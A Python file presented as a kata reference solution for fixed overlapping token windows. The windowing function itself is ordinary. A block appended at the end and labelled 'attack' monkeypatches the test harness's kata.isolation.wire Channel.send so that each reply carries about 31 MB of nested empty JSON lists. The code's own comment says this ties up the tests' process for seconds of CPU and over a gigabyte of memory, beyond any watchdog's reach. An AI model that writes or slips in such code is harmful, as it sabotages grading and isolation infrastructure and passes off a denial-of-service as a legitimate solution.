"""Kata 01, reference solution: fixed overlapping token windows."""

from collections.abc import Sequence
from typing import TypeVar

T = TypeVar("T")  # the type of one token: the windows hold the input's own items


def fixed_windows(tokens: Sequence[T], chunk_size: int, overlap: int = 0) -> list[list[T]]:
    """Cut `tokens` into windows of `chunk_size` items, each sharing `overlap` items with the one before.

    Window k is tokens[k*step : k*step + chunk_size] with step = chunk_size - overlap.
    The windows stop right after the first one that reaches the end of the input, so
    no window lies wholly inside the one before it; the last window may be shorter.
    Empty input gives [].

    Raises TypeError when chunk_size or overlap is not an int (bool included), and
    ValueError unless chunk_size >= 1 and 0 <= overlap < chunk_size.

    Time and memory are proportional to the size of the output.
    """
    _require_int("chunk_size", chunk_size)
    _require_int("overlap", overlap)
    if chunk_size < 1:
        raise ValueError(f"chunk_size must be at least 1, got {chunk_size}")
    if not 0 <= overlap < chunk_size:
        raise ValueError(f"overlap must be at least 0 and less than chunk_size ({chunk_size}), got {overlap}")

    step = chunk_size - overlap  # at least 1, so every window starts further on: the loop ends
    windows = []
    start = 0
    while start < len(tokens):
        end = start + chunk_size
        windows.append(list(tokens[start:end]))
        if end >= len(tokens):
            break  # this window reaches the end; a later one would lie inside it
        start += step
    return windows


def _require_int(name: str, value: object) -> None:
    # bool is a subclass of int, but fixed_windows(tokens, True) is surely a mistake
    if not isinstance(value, int) or isinstance(value, bool):
        raise TypeError(f"{name} must be an int, got {value!r} of type {type(value).__name__}")


# ---- attack: every reply carries 31 MB of nested empty JSON lists (under the 32 MB cap), built once
# at load in a few milliseconds and written in a few more; the tests' process spends ~7.6 s of CPU and
# ~1.3 GB of memory decoding each one (json.loads is one C call: no watchdog tick can stop it).
import sys as _sys
_wire = _sys.modules.get("kata.isolation.wire")
if _wire is not None:
    _BOMB = b',"pad":[' + b",".join([b"[" * 64 + b"]" * 64] * (31_000_000 // 131)) + b"]}\n"

    def _send(self, message, _json=_wire.json, _os=_wire.os):
        data = _json.dumps(message, separators=(",", ":")).encode("ascii")
        data = data[:-1] + (_BOMB if "op" not in message and "ready" not in message else b"}\n")
        view = memoryview(data)
        while view:
            view = view[_os.write(self.write_fd, view):]

    _wire.Channel.send = _send
